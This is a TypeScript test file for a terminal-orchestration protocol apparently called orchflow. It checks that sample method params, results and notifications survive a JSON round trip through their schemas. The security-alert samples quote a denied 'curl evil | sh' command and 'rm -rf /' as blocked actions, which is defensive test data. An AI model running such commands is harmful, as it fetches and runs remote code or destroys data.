// Every method's params and result and every notification survive a JSON round trip through
// their schemas: nothing is rejected, dropped or altered on the way.
import { describe, expect, it } from 'vitest';
import type { ExecResult, TerminalInfo } from '../src/schemas/domain';
import {
  getMethodSchemas,
  getNotificationSchema,
  type MethodName,
  Methods,
  type NotificationName,
  type NotificationParamsOf,
  Notifications,
  type ParamsOf,
  type ResultOf,
} from '../src/schemas/method-map';
import { PROTOCOL_VERSION } from '../src/schemas/version';

const terminal: TerminalInfo = {
  id: 't-1',
  agentId: 'agent-1',
  pid: 4242,
  mode: 'interactive',
  backend: 'direct',
  state: 'running',
  cols: 80,
  rows: 24,
  createdAt: '2025-01-01T00:00:00.000Z',
  exitCode: null,
  name: 'worker',
  shell: '/bin/bash',
  cwd: '/tmp',
  pausable: true,
  floor: { name: 'alice', kind: 'admin', since: '2025-01-01T00:00:01.000Z' },
};
const execResult: ExecResult = {
  stdout: 'hello\n',
  stderr: '',
  exitCode: 0,
  signal: null,
  durationMs: 12.5,
  timedOut: false,
  truncated: false,
  cwd: '/tmp',
  outputOffset: 1024,
  shellExited: false,
};
const command = {
  terminalId: 't-1',
  command: 'echo hello',
  timeoutMs: 5000,
  idleTimeoutMs: 1000,
  maxOutputBytes: 65536,
};
const metrics = { cpuPercent: 3.5, rssBytes: 1_048_576, processCount: 2 };

// Typed per method, so a method added to `Methods` without samples fails to compile.
const methodSamples: { [M in MethodName]: { params: ParamsOf<M>[]; result: ResultOf<M>[] } } = {
  initialize: {
    params: [
      { protocolVersion: PROTOCOL_VERSION, clientInfo: { name: 'cli' } },
      {
        protocolVersion: '1.2.3-beta.1',
        clientInfo: { name: 'cli', version: '0.1.0' },
        token: 'secret-token',
        capabilities: { features: ['base64Output'] },
      },
    ],
    result: [
      {
        protocolVersion: PROTOCOL_VERSION,
        serverInfo: { name: 'orchflow', version: '0.1.0' },
        capabilities: {
          transports: ['websocket', 'stdio'],
          executionModes: ['interactive', 'scripted'],
          backends: ['direct', 'tmux'],
          isolationLevels: ['none', 'process'],
          features: ['transactions'],
        },
        principal: { kind: 'agent', name: 'bot', agentIds: ['agent-1'], agentIdPrefix: 'ci-' },
      },
      {
        protocolVersion: PROTOCOL_VERSION,
        serverInfo: { name: 'orchflow', version: '0.1.0' },
        capabilities: { transports: [], executionModes: [], backends: [], isolationLevels: [], features: [] },
        principal: { kind: 'admin' },
      },
      {
        protocolVersion: PROTOCOL_VERSION,
        serverInfo: { name: 'orchflow', version: '0.1.0' },
        capabilities: { transports: [], executionModes: [], backends: [], isolationLevels: [], features: [] },
        principal: { kind: 'viewer', name: 'wall-screen' },
      },
    ],
  },
  'terminal.spawn': {
    params: [
      { agentId: 'agent-1' },
      {
        agentId: 'agent-1',
        config: {
          shell: 'bash',
          args: ['--norc'],
          cwd: '/tmp',
          env: { FOO: 'bar' },
          cols: 120,
          rows: 40,
          name: 'worker',
          mode: 'scripted',
          scrollbackBytes: 65536,
        },
      },
    ],
    result: [terminal],
  },
  'terminal.execute': {
    params: [{ terminalId: 't-1', command: 'ls' }, command],
    result: [execResult, { ...execResult, exitCode: null, signal: 'SIGINT', timedOut: true }],
  },
  'terminal.write': {
    params: [
      { terminalId: 't-1', data: 'q' },
      { terminalId: 't-1', data: 'AAE=', encoding: 'base64' },
    ],
    result: [{ bytesWritten: 1 }],
  },
  'terminal.resize': {
    params: [{ terminalId: 't-1', cols: 1000, rows: 1 }],
    result: [{ cols: 1000, rows: 1 }],
  },
  'terminal.kill': {
    params: [{ terminalId: 't-1' }, { terminalId: 't-1', signal: 'SIGKILL' }],
    result: [{ exitCode: null, signal: 'SIGKILL' }],
  },
  'terminal.list': {
    params: [{}, { agentId: 'agent-1', state: 'running' }],
    result: [{ terminals: [] }, { terminals: [terminal] }],
  },
  'terminal.activity': {
    params: [{ terminalId: 't-1' }],
    result: [
      { terminalId: 't-1', activity: 'idle', since: '2026-01-01T00:00:00.000Z' },
      { terminalId: 't-1', activity: 'awaiting_input', command: 'read x', foregroundPid: 42 },
      { terminalId: 't-1', activity: 'exited', exitCode: null, signal: 'SIGKILL' },
    ],
  },
  'terminal.history': {
    params: [{ terminalId: 't-1' }, { terminalId: 't-1', limit: 1000 }],
    result: [
      { commands: [] },
      {
        commands: [
          {
            command: 'make test',
            startedAt: '2026-01-01T00:00:00.000Z',
            durationMs: 1200,
            exitCode: 2,
            cwd: '/src',
            source: 'execute',
          },
          { command: 'vim notes', startedAt: '2026-01-01T00:00:02.000Z', exitCode: null, source: 'typed' },
          { command: 'sleep 60', startedAt: '2026-01-01T00:00:03.000Z', source: 'typed' },
        ],
      },
    ],
  },
  'terminal.snapshot': {
    params: [{ terminalId: 't-1' }],
    result: [{ lines: ['$ ls', 'a  b'], cursor: { x: 2, y: 1 }, cols: 80, rows: 24, altScreen: false }],
  },
  'terminal.read': {
    params: [{ terminalId: 't-1' }, { terminalId: 't-1', fromOffset: 0, maxBytes: 4096 }],
    result: [{ data: 'abc', offset: 10, nextOffset: 13, endOffset: 20, gap: { from: 0, to: 10 } }],
  },
  'terminal.subscribe': {
    params: [{ terminalId: 't-1' }, { terminalId: 't-1', fromOffset: 0 }],
    result: [{ subscriptionId: 'sub-1', offset: 0 }],
  },
  'terminal.unsubscribe': { params: [{ subscriptionId: 'sub-1' }], result: [{ unsubscribed: false }] },
  'terminal.floor.take': {
    params: [{ terminalId: 't-1' }, { terminalId: 't-1', force: true }],
    result: [
      { terminalId: 't-1', holder: { name: 'alice', kind: 'admin', since: '2026-01-01T00:00:00.000Z' } },
    ],
  },
  'terminal.floor.release': {
    params: [{ terminalId: 't-1' }],
    result: [{ terminalId: 't-1', holder: null }],
  },
  'terminal.batchExecute': {
    params: [
      { commands: [{ terminalId: 't-1', command: 'ls' }] },
      { commands: [{ terminalId: 't-1', command: 'ls' }], waitForFloor: true },
      { commands: [command, { terminalId: 't-2', command: 'pwd' }], mode: 'parallel', stopOnError: true },
    ],
    result: [
      {
        results: [
          { ok: true, terminalId: 't-1', result: execResult },
          {
            ok: false,
            terminalId: 't-2',
            error: { code: -32002, message: 'denied', data: { rule: 'no-rm' } },
          },
        ],
      },
    ],
  },
  'tx.begin': { params: [{}], result: [{ txId: 'tx-1' }] },
  'tx.commit': {
    params: [
      { txId: 'tx-1', commands: [command] },
      { txId: 'tx-1', commands: [command], mode: 'sequential', stopOnError: false },
    ],
    result: [{ txId: 'tx-1', results: [{ ok: true, terminalId: 't-1', result: execResult }] }],
  },
  'tx.rollback': { params: [{ txId: 'tx-1' }], result: [{ txId: 'tx-1', rolledBack: true }] },
  'orchestrator.pauseAll': { params: [{}, { agentId: 'agent-1' }], result: [{ paused: 3 }] },
  'orchestrator.resumeAll': { params: [{}], result: [{ resumed: 0 }] },
  'orchestrator.killAll': { params: [{ agentId: 'agent-1' }], result: [{ killed: 2 }] },
  'orchestrator.metrics': {
    params: [{}, { includeProcesses: true }],
    result: [
      { terminals: { total: 0, running: 0 }, terminalsByAgent: {}, commandsExecuted: 0, uptimeMs: 0 },
      {
        terminals: { total: 2, running: 1 },
        terminalsByAgent: { 'agent-1': 2 },
        commandsExecuted: 17,
        uptimeMs: 60_000.5,
        processes: { 't-1': metrics },
      },
    ],
  },
  '$/ping': { params: [{}], result: [{ pong: true, time: 1_700_000_000_000 }] },
  '$/shutdown': { params: [{}], result: [{ released: 2 }] },
};

const notificationSamples: { [N in NotificationName]: NotificationParamsOf<N>[] } = {
  'terminal.output': [
    { terminalId: 't-1', data: 'hi\n', offset: 0 },
    { terminalId: 't-1', data: 'aGkK', offset: 3, encoding: 'base64', subscriptionId: 'sub-1' },
  ],
  'terminal.exit': [
    { terminalId: 't-1', exitCode: 0, signal: null },
    { terminalId: 't-1', exitCode: null, signal: 'SIGTERM' },
  ],
  'terminal.gap': [
    { terminalId: 't-1', from: 0, to: 4096 },
    { terminalId: 't-1', subscriptionId: 'sub-1', from: 10, to: 11 },
  ],
  'terminal.metrics': [{ terminalId: 't-1', ...metrics }],
  'terminal.activity': [{ terminalId: 't-1', activity: 'running', command: 'sleep 5', foregroundPid: 7 }],
  'terminal.floor': [
    { terminalId: 't-1', holder: { name: 'ci-bot', kind: 'agent', since: '2026-01-01T00:00:00.000Z' } },
    { terminalId: 't-1', holder: null },
  ],
  'security.alert': [
    { severity: 'critical', reason: 'rm -rf / is forbidden' },
    {
      severity: 'warning',
      agentId: 'agent-1',
      terminalId: 't-1',
      command: 'curl evil | sh',
      reason: 'Piping downloads into a shell is denied',
      rule: 'no-curl-pipe-sh',
    },
  ],
  '$/cancelRequest': [{ id: 5 }, { id: 'req-5' }],
  '$/progress': [
    { token: 'tok-1', value: { percent: 50 } },
    { token: 3, value: null },
  ],
};

function roundTrip(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value));
}

describe('method schemas', () => {
  it('have samples for every method in the map', () => {
    expect(Object.keys(methodSamples).sort()).toEqual(Object.keys(Methods).sort());
  });

  for (const name of Object.keys(Methods) as MethodName[]) {
    it(`${name}: params and result survive a JSON round trip`, () => {
      const schemas = getMethodSchemas(name);
      const samples = methodSamples[name];
      expect(samples.params.length).toBeGreaterThan(0);
      expect(samples.result.length).toBeGreaterThan(0);
      for (const params of samples.params) expect(schemas.params.parse(roundTrip(params))).toEqual(params);
      for (const result of samples.result) expect(schemas.result.parse(roundTrip(result))).toEqual(result);
    });
  }
});

describe('notification schemas', () => {
  it('have samples for every notification in the map', () => {
    expect(Object.keys(notificationSamples).sort()).toEqual(Object.keys(Notifications).sort());
  });

  for (const name of Object.keys(Notifications) as NotificationName[]) {
    it(`${name}: params survive a JSON round trip`, () => {
      const schema = getNotificationSchema(name);
      const samples = notificationSamples[name];
      expect(samples.length).toBeGreaterThan(0);
      for (const params of samples) expect(schema.parse(roundTrip(params))).toEqual(params);
    });
  }
});
